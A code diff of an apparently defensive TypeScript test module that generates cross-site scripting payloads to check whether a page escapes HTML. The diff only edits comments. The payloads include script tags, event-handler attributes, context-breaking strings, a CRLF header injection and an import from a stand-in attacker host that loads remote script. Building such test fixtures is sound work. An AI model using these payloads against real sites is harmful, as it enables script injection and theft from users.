@@ -1,4 +1,4 @@
-/** Payloads that run a script if HTML is not escaped. Each reports to the page's detector. @param mark number of the payload */
+/** Each reports to the page's detector. @param mark number of the payload */
 const programs: readonly ((mark: number) => string)[] = [
   (mark) => `__xss(${mark})`,
   (mark) => `alert(${mark})`,
@@ -7,13 +7,13 @@ const programs: readonly ((mark: number) => string)[] = [
   (mark) => `import('https://attacker.invalid/${mark}.js')`,
 ];
 
-/** A script as character references, which only attribute values decode. */
+/** Only attribute values decode character references. */
 const encodeEntities = (mark: number) =>
   [...`__xss(${mark})`].map((character) => `&#${character.codePointAt(0)};`).join("");
 
 type Template = (program: string, mark: number) => string;
 
-/** The places where HTML accepts a script. Every payload is self-contained: the following content is parsed as before. */
+/** Every payload is self-contained: the following content is parsed as before. */
 const completeTemplates: readonly Template[] = [
   (program) => `<script>${program}</script>`,
   (program) => `<ScRiPt>${program}</sCrIpT >`,
@@ -122,7 +122,6 @@ const completeTemplates: readonly Template[] = [
   (program) => `<name-with-dash onpointerrawupdate="${program}" is="x">x</name-with-dash>`,
 ];
 
-/** Ends of the contexts of a text on a page: attributes, scripts with data, comments, titles, templates. */
 const endingTemplates: readonly Template[] = [
   (program) => `"><script>${program}</script>`,
   (program) => `'><script>${program}</script>`,
@@ -150,7 +149,7 @@ const endingTemplates: readonly Template[] = [
   (program) => `\r\nContent-Type: text/html\r\n\r\n<script>${program}</script>`,
 ];
 
-/** Payloads that swallow the following content. */
+/** They swallow the following content. */
 const unclosedTemplates: readonly Template[] = [
   (program) => `<!--<img src="--><img src=x onerror=${program}//">`,
   (program) => `<!--><img src=x onerror=${program}>-->`,
@@ -175,11 +174,7 @@ function createPayloads(templates: readonly Template[], first: number): readonly
   );
 }
 
-/** Self-contained HTML that tries to run a script. */
 export const completePayloads = createPayloads(completeTemplates, 1000);
-/** HTML that tries to run a script and swallows the following content. */
 export const unclosedPayloads = createPayloads(unclosedTemplates, 3000);
-/** Texts that end their context. */
 export const endingPayloads = createPayloads(endingTemplates, 4000);
-/** All payloads as plain text. */
 export const payloads: readonly string[] = [...endingPayloads, ...completePayloads, ...unclosedPayloads];
